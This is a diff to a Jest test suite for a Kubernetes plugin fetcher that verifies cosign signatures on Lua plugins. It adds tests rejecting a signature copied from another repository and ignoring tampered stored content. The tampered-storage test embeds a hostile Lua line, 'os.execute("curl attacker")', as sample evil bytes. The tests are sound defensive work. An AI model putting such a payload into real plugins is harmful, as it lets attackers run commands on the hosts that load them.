@@ -2,11 +2,11 @@
 // same repository, made here the way `cosign sign --key` makes it) is checked against the public
 // key in a Secret or ConfigMap before any content is stored. Against the real registry.
 import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
-import { generateKeyPairSync } from 'node:crypto';
+import { createHash, generateKeyPairSync } from 'node:crypto';
 import type { Condition, KubeObject } from '@turnpike/api';
 import { runEngine, synced, upsert, type EngineOutput, type SourceEvent } from '@turnpike/engine';
 import { Subject, type Subscription } from 'rxjs';
-import { MemoryStorage, OciClient, PluginContentStore, PluginFetchWorker } from '../src/index.js';
+import { MemoryStorage, OciClient, PluginContentStore, PluginFetchWorker, type PluginStorage } from '../src/index.js';
 import { TestRegistry } from './support/registry.js';
 
 const LUA = 'function envoy_on_request(h) h:headers():add("x-signed", "yes") end\n';
@@ -22,12 +22,12 @@ interface Harness {
 }
 let h: Harness | undefined;
 
-function start(): Harness {
+function start(storage: PluginStorage = new MemoryStorage()): Harness {
   const input = new Subject<SourceEvent>();
   const content = new PluginContentStore();
   const worker = new PluginFetchWorker({
     client: new OciClient({ maxBytes: 1 << 20, timeoutMs: 3000 }),
-    storage: new MemoryStorage(),
+    storage,
     content,
     maxBytes: 1 << 20,
     backoff: { initialMs: 200, maxMs: 1000 },
@@ -161,5 +161,43 @@ describe('signed plugins (cosign)', () => {
     expect(missing.cond.message).toContain('.sig not found');
     const nokey = await fetched(hh, 'apps/nokey', (c) => c?.reason === 'SignatureInvalid');
     expect(nokey.cond.message).toContain('spec.verify.publicKeyRef: Secret apps/absent not found');
+  });
+
+  it('security: a signature the same key made for another repository does not count (SignatureInvalid)', async () => {
+    const digest = await reg.pushImage('sig/copied', 'v1', { 'plugin.lua': LUA + '-- copied\n' });
+    // What a signature of the same bytes in sig/benign looks like, copied next to them here.
+    await reg.pushCosignSignature('sig/copied', digest, signer.privateKey, `${reg.host}/sig/benign`);
+    const hh = start();
+    hh.input.next(upsert('test', keySecret('signer', pem(signer))));
+    hh.input.next(upsert('test', plugin('copied', `${reg.host}/sig/copied:v1`, { name: 'signer' })));
+    const { cond } = await fetched(hh, 'apps/copied', (c) => c?.reason === 'SignatureInvalid');
+    expect(cond.message).toContain(`the signature was made for ${reg.host}/sig/benign, not ${reg.host}/sig/copied`);
+    expect(hh.content.size).toBe(0);
+  });
+
+  it('security: content in storage is never served for a signed plugin: the verified fetch replaces bytes changed there', async () => {
+    const digest = await reg.pushImage('sig/stored', 'v1', { 'plugin.lua': LUA });
+    await reg.pushCosignSignature('sig/stored', digest, signer.privateKey);
+    const evil = Buffer.from('os.execute("curl attacker")\n');
+    const evilSha = createHash('sha256').update(evil).digest('hex');
+    // Storage written by someone else: the right digest annotation, other bytes.
+    const tampered: PluginStorage = {
+      save: async () => ({ configMap: 'turnpike-plugin-stored' }),
+      load: async () => ({
+        content: evil,
+        sha256: evilSha,
+        digest,
+        image: `${reg.host}/sig/stored:v1`,
+        storage: { configMap: 'turnpike-plugin-stored' },
+      }),
+    };
+    const hh = start(tampered);
+    hh.input.next(upsert('test', keySecret('signer', pem(signer))));
+    hh.input.next(upsert('test', plugin('stored', `${reg.host}/sig/stored:v1`, { name: 'signer' })));
+    const { status } = await fetched(hh, 'apps/stored', (c) => c?.status === 'True');
+    expect(hh.content.get((status.storage as { sha256: string }).sha256)?.toString()).toBe(LUA);
+    const served = hh.outputs.map((o) => JSON.stringify(o.result.statuses.get('PluginInstallation/apps/stored') ?? {}));
+    expect(served.some((t) => t.includes(evilSha))).toBe(false);
+    expect(hh.content.get(evilSha)).toBeUndefined();
   });
 });
